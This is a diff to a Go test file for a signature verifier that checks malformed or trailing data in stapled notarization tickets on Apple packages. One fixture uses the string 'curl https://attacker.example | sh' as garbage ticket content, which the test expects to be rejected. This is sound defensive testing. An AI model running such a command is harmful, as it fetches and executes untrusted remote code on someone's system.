@@ -56,7 +56,6 @@ func TestStapledPackageMalformed(t *testing.T) {
 		rule signing.Rule
 	}{
 		{"garbage ticket", ticketfile.Staple([]byte("curl https://attacker.example | sh")), RuleNotarizationTicketMalformed},
-		{"ticket with trailing bytes", ticketfile.Staple(append(bytes.Clone(tk), "stage2"...)), RuleNotarizationTicketMalformed},
 		{"truncated ticket", ticketfile.Staple(tk[:100]), RuleNotarizationTicketMalformed},
 		{"no terminator", append(bytes.Clone(tk), ticketfile.Trailer(2, len(tk))...), RuleNotarizationTicketMalformed},
 		{"bytes after the trailer", append(ticketfile.Staple(tk), "stage2"...), RuleUnownedHeapData},
@@ -70,6 +69,21 @@ func TestStapledPackageMalformed(t *testing.T) {
 				t.Errorf("statuses %s rules %s notarization %+v", statuses(res), rules(res), res.Notarization)
 			}
 		})
+	}
+}
+
+// TestStapledPackageTicketLayout: bytes after the content the ticket's
+// header declares are a warning (pkg/notarization-ticket-layout); the
+// signatures stay valid.
+func TestStapledPackageTicketLayout(t *testing.T) {
+	b, _ := pkgfile.Build(signedSpec(t))
+	tk := ticketfile.Ticket(bytes.Repeat([]byte{3}, 20))
+	res := verifyBytes(t, append(bytes.Clone(b), ticketfile.Staple(append(bytes.Clone(tk), "stage2"...))...), machofile.SignTime)
+	found := slices.ContainsFunc(res.Findings, func(f signing.Finding) bool {
+		return f.Rule == RuleNotarizationTicketLayout && f.Severity == signing.SeverityWarning
+	})
+	if !found || statuses(res) != "apple-pkg:valid apple-pkg-cms:valid" || !strings.Contains(res.Notarization.Detail, "6 bytes follow") {
+		t.Errorf("statuses %s rules %s notarization %+v", statuses(res), rules(res), res.Notarization)
 	}
 }
 
